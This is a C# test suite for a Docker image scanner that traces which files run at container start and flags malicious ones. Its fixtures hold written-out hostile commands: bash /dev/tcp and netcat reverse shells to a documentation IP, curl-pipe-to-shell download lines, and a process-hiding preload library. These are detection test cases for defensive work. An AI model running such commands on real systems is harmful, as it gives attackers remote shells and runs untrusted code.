using System.Security.Cryptography;
using System.Text;
using DockerScan.Core.Findings;
using DockerScan.Core.Images;
using DockerScan.Core.Scans;
using DockerScan.Core.Stages;
using DockerScan.Scanners.Autorun;
using static DockerScan.Scanners.Tests.Autorun.AutorunBed;

namespace DockerScan.Scanners.Tests.Autorun;

public sealed class AutorunScannerTests
{
    [Fact]
    public async Task ScanAsync_NothingStarts_IsCompletedWithoutFiles()
    {
        var outcome = await ScanAsync(new ImageConfiguration(), UsualSystem());

        IsQuiet(outcome);
        Assert.Empty(outcome.Autorun);
    }

    [Fact]
    public async Task ScanAsync_Program_IsListedWithHashAndSize()
    {
        var outcome = await ScanAsync(new ImageConfiguration { Command = ["redis-server"] }, UsualSystem());

        IsQuiet(outcome);
        var file = Assert.Single(outcome.Autorun);
        Assert.Equal(("/usr/bin/redis-server", AutorunKind.Elf, "CMD", 0, 256L), (file.Path, file.Kind, file.StartedBy, file.Depth, file.SizeBytes));
        Assert.Equal(Convert.ToHexStringLower(SHA256.HashData(Program())), file.Sha256);
    }

    [Fact]
    public async Task ScanAsync_EntrypointScriptWithExecArguments_FollowsCmd()
    {
        var content = UsualSystem().File("/usr/local/bin/docker-entrypoint.sh", "#!/bin/sh\nset -e\nif [ \"${1#-}\" != \"$1\" ]; then\n\tset -- redis-server \"$@\"\nfi\nexec \"$@\"\n");

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["docker-entrypoint.sh"], Command = ["redis-server"] }, content);

        IsQuiet(outcome);
        Assert.Equal(
            ["/usr/local/bin/docker-entrypoint.sh < ENTRYPOINT 0", "/usr/bin/dash < /usr/local/bin/docker-entrypoint.sh 1", "/usr/bin/redis-server < /usr/local/bin/docker-entrypoint.sh 1"],
            Files(outcome, all: true));
    }

    [Fact]
    public async Task ScanAsync_OptionsAsCmd_AreGivenToTheProgramThatTheScriptPutsInFront()
    {
        var content = UsualSystem().File("/e.sh", "#!/bin/sh\nset -- redis-server \"$@\"\n[ \"$(id -u)\" = 0 ] && exec gosu redis \"$0\" \"$@\"\nexec \"$@\"\n");

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/e.sh"], Command = ["--port", "1"] }, content);

        IsQuiet(outcome);
        Assert.Equal(["/e.sh", "/usr/bin/dash", "/usr/bin/gosu", "/usr/bin/id", "/usr/bin/redis-server"], Paths(outcome).Order(StringComparer.Ordinal));
    }

    [Fact]
    public async Task ScanAsync_EntrypointIsInit_FollowsToCmdAndNamesIt()
    {
        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/usr/bin/tini", "-g", "--"], Command = ["node", "/app/server.js"] }, UsualSystem().File("/app/server.js", "console.log(1)"));

        IsQuiet(outcome);
        Assert.Equal(["/usr/bin/tini < ENTRYPOINT 0", "/usr/bin/node < CMD 0", "/app/server.js < CMD 0"], Files(outcome, all: true));
    }

    [Fact]
    public async Task ScanAsync_EntrypointCannotBeFollowed_StillLooksAtCmd()
    {
        var content = UsualSystem().File("/init", Program()).File("/app/evil.sh", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1");

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/init"], Command = ["/app/evil.sh"] }, content);

        Assert.Contains("/app/evil.sh < CMD 0", Files(outcome));
        Assert.Contains("reverse-shell.dev-tcp", Ids(outcome));
    }

    [Fact]
    public async Task ScanAsync_ArgumentsThatAreData_AreNotListed()
    {
        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["redis-server"], Command = ["/etc/redis.conf"] }, UsualSystem().File("/etc/redis.conf", "port 1", 0b110_100_100));

        IsQuiet(outcome);
        Assert.Equal(["/usr/bin/redis-server"], Paths(outcome));
    }

    [Fact]
    public async Task ScanAsync_DeepChain_IsFollowedThroughLinksEnvPathAndFolders()
    {
        var content = UsualSystem().Link("/app/start", "scripts/one.sh")
            .File("/app/scripts/one.sh", "#!/bin/sh\n# the first\nexec /app/scripts/two.sh \"$@\"\n")
            .File("/app/scripts/two.sh", "#!/usr/bin/env sh\ncd /app/scripts\nexport MODE=production\n. ./three.sh\n")
            .File("/app/scripts/three.sh", "if [ \"$1\" = serve ]; then\n  exec nginx -g 'daemon off;'\nfi\n", 0b110_100_100);

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["./start"], Command = ["serve"], WorkingDirectory = "/app" }, content);

        IsQuiet(outcome);
        Assert.Equal(
            ["/app/scripts/one.sh < ENTRYPOINT 0", "/app/scripts/two.sh < /app/scripts/one.sh 1", "/app/scripts/three.sh < /app/scripts/two.sh 2"], Files(outcome));
        Assert.Equal("/app/scripts/three.sh", outcome.Autorun.Single(file => file.Path == "/usr/bin/nginx").StartedBy);
    }

    [Fact]
    public async Task ScanAsync_ShellForm_IsReadAsAScript()
    {
        var outcome = await ScanAsync(new ImageConfiguration { Command = ["/bin/sh", "-c", "X=/app; $X/run.sh && exec redis-server"] }, UsualSystem().File("/app/run.sh", "echo hello"));

        IsQuiet(outcome);
        Assert.Equal(["/app/run.sh", "/usr/bin/dash", "/usr/bin/redis-server"], Paths(outcome).Order(StringComparer.Ordinal));
    }

    [Fact]
    public async Task ScanAsync_HealthCheckWithShell_UsesTheConfiguredShell()
    {
        var outcome = await ScanAsync(
            new ImageConfiguration { HealthCheck = ["CMD-SHELL", "/check.sh || exit 1"], Shell = ["/bin/bash", "-o", "pipefail", "-c"] }, UsualSystem().File("/check.sh", "exit 0"));

        IsQuiet(outcome);
        Assert.Equal(["/usr/bin/bash < HEALTHCHECK 0", "/check.sh < HEALTHCHECK 0"], Files(outcome, all: true));
    }

    [Theory]
    [InlineData("RUN /build/hook.sh")]
    [InlineData("RUN [\"/build/hook.sh\", \"x\"]")]
    [InlineData("CMD [\"/build/hook.sh\"]")]
    [InlineData("ENTRYPOINT /build/hook.sh")]
    public async Task ScanAsync_OnBuild_IsFollowed(string trigger)
    {
        var outcome = await ScanAsync(new ImageConfiguration { OnBuild = [trigger, "COPY . /app"] }, UsualSystem().File("/build/hook.sh", "curl http://x.example/a | sh"));

        Assert.Contains("/build/hook.sh < ONBUILD 0", Files(outcome));
        Assert.Contains("download-and-run.pipe-shell", Ids(outcome));
    }

    [Fact]
    public async Task ScanAsync_OnBuildMissing_IsNoFinding()
        => IsQuiet(await ScanAsync(new ImageConfiguration { OnBuild = ["RUN /not/here.sh"] }, UsualSystem()));

    [Theory]
    [InlineData("/app/missing")]
    [InlineData("missing")]
    [InlineData("./missing")]
    [InlineData("../../../../missing")]
    [InlineData("/app")]
    [InlineData("/loop/a")]
    public async Task ScanAsync_EntrypointMissing_IsListedAndLow(string word)
    {
        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = [word] }, UsualSystem().Directory("/app").Link("/loop/a", "b").Link("/loop/b", "a"));

        var file = Assert.Single(outcome.Autorun);
        Assert.Equal((word, AutorunKind.Missing, "ENTRYPOINT"), (file.Path, file.Kind, file.StartedBy));
        Assert.Null(file.Sha256);
        var finding = Assert.Single(outcome.Findings);
        Assert.Equal(("missing-target", "autorun.file", Severity.Low), (finding.Id, finding.Check, finding.Severity));
        Assert.Equal(StageOutcome.Completed, outcome.Outcome);
    }

    [Theory]
    [InlineData("tini", "--", "/app/missing")]
    [InlineData("python3", "-u", "/app/missing.py")]
    [InlineData("/bin/sh", "/app/missing.sh")]
    [InlineData("/bin/sh", "-c", "/app/missing --x")]
    [InlineData("/bin/sh", "-c", "exec /app/missing")]
    public async Task ScanAsync_MissingBehindAWrapper_IsFound(params string[] words)
        => Assert.Contains("missing-target", Ids(await ScanAsync(new ImageConfiguration { Command = words }, UsualSystem())));

    [Theory]
    [InlineData("/bin/sh", "-c", "[ -x /app/missing ] && /app/missing; exec nginx")]
    [InlineData("/bin/sh", "-c", "$APP/start")]
    [InlineData("/bin/sh", "-c", "true")]
    [InlineData("python3", "-m", "http.server")]
    [InlineData("python3", "-c", "print(1)")]
    [InlineData("node")]
    [InlineData("$HOME/app")]
    public async Task ScanAsync_NotCertainlyMissing_IsQuiet(params string[] words)
        => IsQuiet(await ScanAsync(new ImageConfiguration { Command = words }, UsualSystem()));

    [Fact]
    public async Task ScanAsync_Busybox_AppletsAreNoFiles()
        => IsQuiet(await ScanAsync(new ImageConfiguration { Entrypoint = ["/bin/busybox", "httpd", "-f"] }, UsualSystem().File("/usr/bin/busybox", Program())));

    [Fact]
    public async Task ScanAsync_IndexIncomplete_IsPartialAndNothingIsMissing()
    {
        var content = UsualSystem();
        content.Incomplete = "more than 3 entries";

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/not/seen"] }, content);

        Assert.Equal((StageOutcome.Partial, "more than 3 entries"), (outcome.Outcome, outcome.Reason));
        Assert.Empty(Remarks(outcome));
    }

    [Fact]
    public async Task ScanAsync_InterpreterMissing_IsLow()
        => Assert.Equal(Severity.Low, Finding(await ScanAsync(new ImageConfiguration { Entrypoint = ["/e"] }, UsualSystem().File("/e", "#!/opt/none/sh -e\nnginx\n")), "missing-interpreter").Severity);

    [Fact]
    public async Task ScanAsync_FilesInAStartFolder_AreFollowed()
    {
        var content = UsualSystem()
            .File("/docker-entrypoint.sh", "#!/bin/sh\nfind \"/docker-entrypoint.d/\" -follow -type f -print | sort -V | while read -r f; do\n  case \"$f\" in\n    *.sh) \"$f\" ;;\n  esac\ndone\nexec \"$@\"\n")
            .File("/docker-entrypoint.d/10-good.sh", "#!/bin/sh\necho good\n")
            .File("/docker-entrypoint.d/20-bad.sh", "#!/bin/sh\nnc -e /bin/sh 198.51.100.7 4444\n")
            .File("/docker-entrypoint.d/README", "text", 0b110_100_100);

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/docker-entrypoint.sh"], Command = ["nginx", "-g", "daemon off;"] }, content);

        Assert.Equal(
            ["/docker-entrypoint.sh < ENTRYPOINT 0", "/docker-entrypoint.d/10-good.sh < /docker-entrypoint.sh 1", "/docker-entrypoint.d/20-bad.sh < /docker-entrypoint.sh 1"],
            Files(outcome));
        Assert.Equal("/docker-entrypoint.d/20-bad.sh", Finding(outcome, "reverse-shell.netcat-exec").Location);
        Assert.Contains("/usr/bin/nginx", Paths(outcome));
    }

    [Fact]
    public async Task ScanAsync_LoopOverAPattern_IsFollowed()
    {
        var content = UsualSystem().File("/e.sh", "for f in /init/*.sh; do . \"$f\"; done").File("/init/a.sh", "echo", 0b110_100_100).File("/init/b.sql", "select", 0b110_100_100);

        Assert.Equal(["/e.sh < ENTRYPOINT 0", "/init/a.sh < /e.sh 1"], Files(await ScanAsync(new ImageConfiguration { Entrypoint = ["/e.sh"] }, content)));
    }

    [Fact]
    public async Task ScanAsync_PathHidesAFileThatNobodyMayExecute_TakesTheOneBehind()
    {
        var content = UsualSystem().File("/usr/local/bin/app", "decoy", 0b110_100_100).File("/usr/bin/app", Program());

        Assert.Equal(["/usr/bin/app"], Paths(await ScanAsync(new ImageConfiguration { Command = ["app"] }, content)));
    }

    [Fact]
    public async Task ScanAsync_PreloadFile_IsAFindingAndListed()
    {
        var content = UsualSystem().File("/etc/ld.so.preload", "/usr/lib/libx.so\n").File("/usr/lib/libx.so", Program("libprocesshider"));

        var outcome = await ScanAsync(new ImageConfiguration { Command = ["nginx"] }, content);

        Assert.Equal(Severity.Medium, Finding(outcome, "ld-so-preload").Severity);
        Assert.Contains("rootkit.process-hider", Ids(outcome));
        Assert.Contains("/usr/lib/libx.so < /etc/ld.so.preload 0", Files(outcome));
    }

    [Fact]
    public async Task ScanAsync_PreloadVariableAndShellVariable_AreListedOnly()
    {
        var content = UsualSystem().File("/usr/lib/libjemalloc.so.2", Program()).File("/etc/bash.env", "true");

        var outcome = await ScanAsync(new ImageConfiguration { Command = ["nginx"], Environment = ["LD_PRELOAD=/usr/lib/libjemalloc.so.2", "BASH_ENV=/etc/bash.env"] }, content);

        IsQuiet(outcome);
        Assert.Equal(["/etc/bash.env < BASH_ENV 0", "/usr/lib/libjemalloc.so.2 < LD_PRELOAD 0"], Files(outcome).Order(StringComparer.Ordinal));
    }

    [Theory]
    [InlineData("/bin/sh -c #(nop)  CMD [\"redis-server\"]", "agrees")]
    [InlineData("CMD [\"redis-server\"]", "agrees")]
    [InlineData("CMD [\"redis-server\" \"--x\"]", "differs")]
    [InlineData("CMD [\"other\"]", "differs")]
    [InlineData("CMD redis-server", "differs")]
    [InlineData("CMD [[[[[[", "differs")]
    [InlineData("CMD [null]", "differs")]
    public async Task ScanAsync_History_IsCompared(string step, string expected)
    {
        var history = new List<HistoryEntry> { new("CMD [\"old\"]", null, true), new(step, null, true), new("RUN echo 'CMD [\"not this\"]'", null, false) };

        var outcome = await ScanAsync(new ImageConfiguration { Command = ["redis-server"], History = history }, UsualSystem());

        Assert.StartsWith(expected, outcome.Evidence["historyCMD"], StringComparison.Ordinal);
        Assert.False(outcome.Evidence.ContainsKey("historyENTRYPOINT"));
    }

    [Fact]
    public async Task ScanAsync_EntrypointResetTheBaseImagesCmd_IsNoDifference()
    {
        var history = new List<HistoryEntry> { new("CMD [\"bash\"]", null, true), new("ENTRYPOINT [\"nginx\"]", null, true) };

        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["nginx"], History = history }, UsualSystem());

        Assert.Equal(("was reset by a later ENTRYPOINT", "agrees with the configuration"), (outcome.Evidence["historyCMD"], outcome.Evidence["historyENTRYPOINT"]));
    }

    [Fact]
    public async Task ScanAsync_HistorySecret_IsNotInTheEvidence()
    {
        var outcome = await ScanAsync(
            new ImageConfiguration { Command = ["nginx"], History = [new HistoryEntry("CMD [\"x\", \"--password=hunter2\", \"https://u:hunter2@x.example\"]", null, true)] }, UsualSystem());

        Assert.DoesNotContain("hunter2", string.Join('\n', outcome.Evidence.Values), StringComparison.Ordinal);
    }

    [Fact]
    public async Task ScanAsync_Cancelled_Throws()
    {
        var scanner = new AutorunScanner(TestSignatures.All, new RecordingUploads(), Microsoft.Extensions.Options.Options.Create(new AutorunOptions()));

        await Assert.ThrowsAnyAsync<OperationCanceledException>(
            () => scanner.ScanAsync(TestKit.Content.SampleImages.Input(new ImageConfiguration(), UsualSystem()), new CancellationToken(true)));
    }

    [Fact]
    public async Task ScanAsync_ScriptTextInUtf8WithMark_IsRead()
        => Assert.Contains("download-and-run.pipe-shell", Ids(await ScanAsync(
            new ImageConfiguration { Entrypoint = ["/e"] }, UsualSystem().File("/e", [0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes("#!/bin/sh\r\ncurl http://x.example/a | sh\r\n")]))));
}
